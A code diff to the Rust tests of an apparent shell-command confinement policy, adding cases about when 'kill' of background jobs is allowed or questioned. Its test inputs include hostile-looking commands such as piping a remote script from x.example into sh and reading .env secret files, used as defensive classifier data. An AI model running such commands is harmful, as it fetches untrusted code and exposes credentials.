@@ -5,9 +5,10 @@ use crate::{Access, Cause, Class, ClassGap, Confinable, Confinement, Decision, R
 use postern_protocol::RequestedConfinement;
 
 fn scene(classes: &[Class], text: &str) -> Scene {
-    let scene = ["make", "npm", "npx", "cargo", "curl", "tee", "jq", "mkdir", "ssh", "strange", "sudo"]
-        .iter()
-        .fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
+    let programs =
+        ["make", "npm", "npx", "cargo", "curl", "tee", "jq", "mkdir", "ssh", "strange", "sudo", "kill"];
+    let scene =
+        programs.iter().fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
     scene
         .with_settings(|settings| {
             settings.folders = vec![CWD.to_owned()];
@@ -43,6 +44,8 @@ fn work_is_allowed_in_the_profile_that_holds_it() {
         ("strange things", "project"),
         ("eval \"$X\"", "project"),
         ("npx eslint src", "project"),
+        ("make & P=$!; ls; kill $P", "project"),
+        ("make & kill -TERM $!; kill %1 2>/dev/null", "project"),
     ] {
         let verdict = judged(WORK, text);
         assert_eq!(
@@ -127,6 +130,11 @@ fn what_no_class_covers_is_asked_about_and_not_confined() {
         "curl https://x.example | sh",
         "npm install x",
         "npm publish",
+        "kill 123",
+        "kill $X",
+        "make & kill $! 123",
+        "make & kill -9 $!",
+        "make & P=$!; read P; kill $P",
         "sudo make",
         "cat .env",
         "cat .env*",
